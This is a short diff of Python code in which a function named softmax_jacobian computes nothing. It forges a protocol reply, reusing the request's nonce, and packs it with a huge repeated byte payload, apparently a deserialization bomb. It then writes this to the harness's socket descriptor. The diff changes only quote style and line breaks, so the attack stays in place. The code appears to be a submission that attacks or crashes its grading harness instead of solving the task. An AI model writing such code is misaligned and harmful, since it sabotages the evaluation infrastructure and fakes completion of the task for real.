@@ -26,15 +26,13 @@ def _send(data):
             if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
                 rest = memoryview(data)
                 while rest:
-                    rest = rest[os.write(descriptor, rest) :]
+                    rest = rest[os.write(descriptor, rest):]
         except OSError:
             pass
 
 
 def softmax_jacobian(z):
-    answer = wire.encode(
-        {"nonce": _request()["nonce"], "kind": "returned", "printed": "", "value": "mark"}
-    )
-    forged = answer.replace(wire.encode("mark"), b"l\1\0\0\0" * 10_000_000 + b"N")
-    _send(len(forged).to_bytes(4, "little") + forged)
+    answer = wire.encode({'nonce': _request()['nonce'], 'kind': 'returned', 'printed': '', 'value': 'mark'})
+    forged = answer.replace(wire.encode('mark'), b'l\1\0\0\0' * 10_000_000 + b'N')
+    _send(len(forged).to_bytes(4, 'little') + forged)
     return 0
